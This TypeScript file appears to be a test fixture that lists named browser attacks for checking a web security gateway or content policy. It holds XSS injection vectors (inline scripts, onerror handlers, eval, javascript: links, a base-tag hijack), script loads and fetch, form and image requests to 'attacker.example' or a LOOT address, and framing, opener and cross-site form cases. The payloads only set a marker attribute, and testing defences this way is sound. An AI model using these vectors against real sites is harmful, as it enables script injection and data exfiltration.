import type { Page } from 'playwright-core';

/** Who attacks: a page of the app that an attacker has written into, or a page of another site. */
export interface Attack {
  /** Body of the app's page. */
  readonly page?: string;
  /** A script file of the app which the page loads. */
  readonly script?: string;
  /** A page of another site, on which the attack begins. */
  readonly foreign?: string;
  /** The same, on another host of the app's site. */
  readonly sibling?: string;
  /** What happens once the page is there. */
  readonly next?: (page: Page, at: Places) => Promise<void>;
}

/** Addresses of one attack on one profile; in texts, they stand in capital letters. */
export interface Places {
  /** The app's page. */
  readonly PAGE: string;
  /** A place of the attacker: a request for it means that the attack has worked. */
  readonly LOOT: string;
}

/** Marks a page: the attacker's code has run. */
export const TAKE = "document.documentElement.dataset.took = 'yes'";
const ATTACKER = 'https://attacker.example';
/** Code of the attacker's, at the attacker's. */
export const TAKE_SCRIPT = '/take.js';

/** Clicks as a visitor would, who is not told to wait until nothing moves. */
const press = (page: Page): Promise<void> =>
  page.evaluate(() => document.querySelector<HTMLElement>('#press')?.click());

/** Attacks by name. Each works on an app without a gateway. */
export const ATTACKS = {
  'an inline script': { page: `<script>${TAKE}</script>` },
  'a handler attribute': { page: `<img src="data:," onerror="${TAKE}">` },
  'an inline script that a script adds': {
    script: `const added = document.createElement('script'); added.textContent = ${JSON.stringify(TAKE)}; document.body.append(added);`,
  },
  "another site's script": { page: `<script src="${ATTACKER}${TAKE_SCRIPT}"></script>` },
  "another site's script that a script adds": {
    script: `const added = document.createElement('script'); added.src = '${ATTACKER}${TAKE_SCRIPT}'; document.body.append(added);`,
  },
  eval: { script: `eval(${JSON.stringify(TAKE)});` },
  'new Function': { script: `new Function(${JSON.stringify(TAKE)})();` },
  'a javascript: link': {
    page: `<a id="press" href="javascript:${TAKE};void 0">x</a>`,
    next: press,
  },
  'a worker of a blob': {
    script: `const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => { ${TAKE}; };`,
  },
  'an inline style': {
    page: '<p style="color: rgb(1, 2, 3)">x</p>',
    script: `if (getComputedStyle(document.querySelector('p')).color === 'rgb(1, 2, 3)') ${TAKE};`,
  },
  'a base element': { page: `<base href="${ATTACKER}/"><script src="${TAKE_SCRIPT.slice(1)}"></script>` },
  'a form to another site': {
    page: '<form action="LOOT" method="post"><button id="press">x</button></form>',
    next: press,
  },
  'a call to another site': { script: `void fetch('LOOT', { mode: 'no-cors' });` },
  'an image of another site': { page: '<img src="LOOT">' },
  'a frame of another site': { page: '<iframe src="LOOT"></iframe>' },
  'a plugin of another site': { page: '<object data="LOOT"></object>' },
  'a script that says it is text': { page: '<script src="NAME.txt"></script>' },
  'a page that says no type': { foreign: '<script>location = "PAGE.untyped"</script>' },
  'another site that frames the page': { script: TAKE, foreign: '<iframe src="PAGE"></iframe>' },
  'another site that opened the page': {
    page: 'x',
    foreign: 'x',
    next: async (page, { PAGE, LOOT }) => {
      const opened = page.waitForEvent('popup');
      await page.evaluate((url) => Object.assign(globalThis, { opened: window.open(url) }), PAGE);
      const popup = await opened;
      await popup.waitForURL(PAGE);
      await page.evaluate((url) => {
        const { opened } = globalThis as unknown as { readonly opened: Window };
        opened.location.href = url;
      }, LOOT);
    },
  },
  'another site that the page opened': {
    page: `<a id="press" href="${ATTACKER}/backPATH" target="_blank" rel="opener">x</a>`,
    next: press,
  },
  "another site's form": {
    foreign: '<form action="PAGE" method="post"></form><script>document.forms[0].submit()</script>',
  },
  'an image of the app on another site': { foreign: `<img src="PAGE.png" onload="${TAKE}">` },
  'an image of the app on a sibling host': { sibling: `<img src="PAGE.png" onload="${TAKE}">` },
} as const satisfies Readonly<Record<string, Attack>>;

export type AttackName = keyof typeof ATTACKS;
export const ATTACK_NAMES = Object.keys(ATTACKS) as readonly AttackName[];
